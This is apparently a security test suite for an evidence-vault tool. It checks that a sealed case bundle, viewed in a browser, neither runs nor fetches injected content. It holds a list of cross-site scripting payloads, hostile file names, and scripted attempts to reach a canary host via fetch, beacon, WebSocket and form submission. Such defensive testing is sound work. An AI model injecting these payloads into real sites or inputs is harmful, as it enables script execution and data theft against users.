"""What others wrote stays text: nothing is fetched and nothing runs, with the network open."""

from __future__ import annotations

import dataclasses
import typing
from pathlib import Path

import pytest
from browsers import Browser
from canary import Canary
from handed_over import Handed, extract
from reading import VERDICT, read

from keepsafe.bundle.sealing import SealChoice, seal
from keepsafe.case import fields
from keepsafe.case.entries import Happening
from keepsafe.demo.drawing import draw_chat_screenshots
from keepsafe.intake.adding import Choice, add
from keepsafe.vault.vault import Vault

WAYS = (
    '<img src="{url}/img" onerror="planted()">',
    "<script src={url}/script></script><script>planted()</script>",
    '"><svg onload=planted()><iframe srcdoc="<script>parent.planted()</script>">',
    "'-planted()-'{{{{planted()}}}}${{planted()}}",
    "javascript:planted()//{url}/link",
    '{url}/"onmouseover="planted()" style="background:url({url}/css)',
    "</script></style></textarea></title><meta http-equiv=refresh content='0;url={url}/meta'>",
    '<a href="{url}/a" ping="{url}/ping" autofocus onfocus=planted()>x</a>',
    '<link rel=preload as=image href="{url}/preload"><form action={url}/form>',
    "\u202e<body onload=planted()>\u2066&lt;script&gt;planted()&lt;/script&gt;",
)
KINDS: dict[str, type] = {
    "account": fields.AccountFields,
    "payment": fields.PaymentFields,
    "device": fields.DeviceFields,
    "report": fields.ReportFields,
    "consent": fields.ConsentFields,
    "note": fields.NoteFields,
    "pointer": fields.PointerFields,
}


def free_texts(kind: type) -> list[str]:
    special = ("choices", "moment", "zone", "letter")
    return [
        field.name
        for field in dataclasses.fields(kind)
        if not any(sign in field.metadata for sign in special)
    ]


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory, canary: Canary) -> Handed:
    """A case with a script and an address in every text that it can hold."""
    root = tmp_path_factory.mktemp("planted")
    url = f"http://{Canary.HOST}"
    ways = [way.format(url=url) for way in WAYS]
    ways += [way.replace(Canary.HOST, f"127.0.0.1:{canary.port}") for way in ways[:2]]
    vault, _recovery = Vault.create(
        root / "case", "a password", {"role": "parent", "country": "CA", "title": ways[0]}
    )
    with vault:
        for number, way in enumerate(ways):
            for name, kind in KINDS.items():
                values = {field: f"{way} {field} {number}" for field in free_texts(kind)}
                vault.add_item(typing.cast("fields.Kind", name), values, "parent")
        about = dict.fromkeys(free_texts(fields.CaseFields), ways[0])
        vault.log([Happening("set", {"values": vault.checked("case", about)}, "parent")])
        given = root / "given"
        given.mkdir()
        names = [f"{w.replace('/', '∕')[:60]}{n}.txt" for n, w in enumerate(ways)]
        ((_, picture),) = draw_chat_screenshots(1)
        (given / "'\"><img src=x onerror=planted()>.png").write_bytes(picture)
        for number, name in enumerate(names):
            (given / name).write_bytes(f"<script>planted()</script>{number}".encode())
        (given / "page.html").write_text(f"<script>planted()</script><img src={url}/page>")
        (given / "picture.svg").write_text(
            '<svg xmlns="http://www.w3.org/2000/svg" onload="planted()">'
            f'<image href="{url}/svg"/></svg>'
        )
        batch = add(
            vault,
            sorted(given.iterdir()),
            Choice(dict.fromkeys(free_texts(fields.ExhibitFields), ways[1])),
            "parent",
        )
        assert not batch.refused
        for number, kept in enumerate(batch.kept):
            texts = {n: ways[number % len(ways)] for n in free_texts(fields.ExhibitFields)}
            vault.describe(kept.id, texts, "parent")
        (root / "out").mkdir()
        sealed = seal(vault, root / "out", SealChoice(), "parent")
    assert sealed.words is not None
    return Handed(
        sealed.path,
        extract(sealed.path),
        sealed.words,
        "",
        sealed.seal_code,
        {},
        (),
    )


WATCH = "window.ran = 0; window.planted = () => { window.ran += 1; };"


def test_nothing_planted_is_fetched_or_run(
    browser: Browser, planted: Handed, canary: Canary
) -> None:
    before = len(canary.asked)
    with browser.open(planted.page, before=[WATCH]) as page:
        verdict = read(page, planted.file, planted.words, planted.seal_code)
        assert (verdict.bytes, verdict.seal) == ("matches", "same")
        text = page.ask("document.body.textContent")
        # They are there to be read, as text.
        assert text.count("planted()") > 100
        # Open what can be opened, and uncover every exhibit that can be shown.
        page.ask("document.querySelectorAll('details').forEach((it) => { it.open = true; })")
        panels = page.ask(
            "[...document.querySelectorAll('.panel > button')].map((it) => it.parentElement.id)"
        )
        assert len(panels) > 2
        for panel in panels:
            page.act(("click", f"#{panel} > button"), ("wait", f"#{panel}.open"))
        page.act(("until", "new Promise((done) => setTimeout(() => done(true), 1500))"))
        assert page.ask("window.ran") == 0
        assert (
            page.ask("document.querySelectorAll('iframe, object, embed, svg script').length") == 0
        )
        log = page.watched()
    fetched = {url for url in log["requests"] if not url.startswith(("blob:", "data:"))}
    assert fetched <= {planted.page.as_uri()}
    assert (log["errors"], log["dialogs"], log["popups"]) == ([], [], 0)
    assert [line for line in log["console"] if line[0] in ("error", "warn", "warning")] == []
    assert [url for url in canary.asked[before:] if Canary.HOST in url or "127.0.0.1" in url] == []


def test_its_policy_stops_what_would_get_in_all_the_same(
    browser: Browser, handed: Handed, canary: Canary
) -> None:
    """Were there a hole, nothing could leave through it: each way out is tried from inside."""
    url = f"http://{Canary.HOST}/policy"
    ways = f"""
      const body = document.body;
      window.ran = 0;
      for (const html of ['<img src={url}/img>', '<iframe src={url}/frame></iframe>',
          '<img src=x onerror="window.ran += 1">', '<link rel=stylesheet href={url}/css>',
          '<video src={url}/video></video>', '<object data={url}/object></object>']) {{
        body.insertAdjacentHTML('beforeend', html);
      }}
      const script = document.createElement('script');
      script.textContent = 'window.ran += 1';
      body.append(script);
      const outside = document.createElement('script');
      outside.src = '{url}/script';
      body.append(outside);
      const form = document.createElement('form');
      form.action = '{url}/form'; form.target = '_self';
      body.append(form);
      fetch('{url}/fetch').catch(() => 0);
      try {{ navigator.sendBeacon('{url}/beacon'); }} catch {{}}
      try {{ new WebSocket('{url.replace("http", "ws")}/socket'); }} catch {{}}
      try {{ new EventSource('{url}/events'); }} catch {{}}
      try {{ form.submit(); }} catch {{}}
    """
    before = len(canary.asked)
    with browser.open(handed.page) as page:
        page.ask(f"void (() => {{ {ways} }})()")
        page.act(("until", "new Promise((done) => setTimeout(() => done(true), 1500))"))
        assert page.ask("window.ran") == 0
        assert page.ask("location.protocol") == "file:"
    assert [asked for asked in canary.asked[before:] if Canary.HOST in asked] == []


def test_these_tests_would_hear_and_see_it(
    browser: Browser, canary: Canary, tmp_path: Path
) -> None:
    """The same texts in a page without a policy: the network is open, and scripts run."""
    url = f"http://{Canary.HOST}/control-{browser.kind}"
    near = f"http://127.0.0.1:{canary.port}/near-{browser.kind}"
    body = "".join(way.format(url=url) for way in WAYS[:2]) + f"<img src={near}>"
    page_path = tmp_path / "control.html"
    page_path.write_text(f"<!doctype html><body>{body}")
    with browser.open(page_path, before=[WATCH]) as page:
        page.act(("until", "window.ran > 1"))
        log = page.watched()
    assert f"{url}/img" in log["requests"]
    assert log["dialogs"] == ["planted"]
    assert canary.heard(f"/control-{browser.kind}/script")
    assert canary.heard(f"/near-{browser.kind}")


def test_nothing_is_stored(browser: Browser, handed: Handed) -> None:
    with browser.open(handed.page) as page:
        read(page, handed.file, handed.words)
        page.act(("wait", VERDICT))
        stored = page.ask("[localStorage.length, sessionStorage.length, document.cookie]")
        assert stored == [0, 0, ""]
        assert page.ask("indexedDB.databases().then((all) => all.length)") == 0
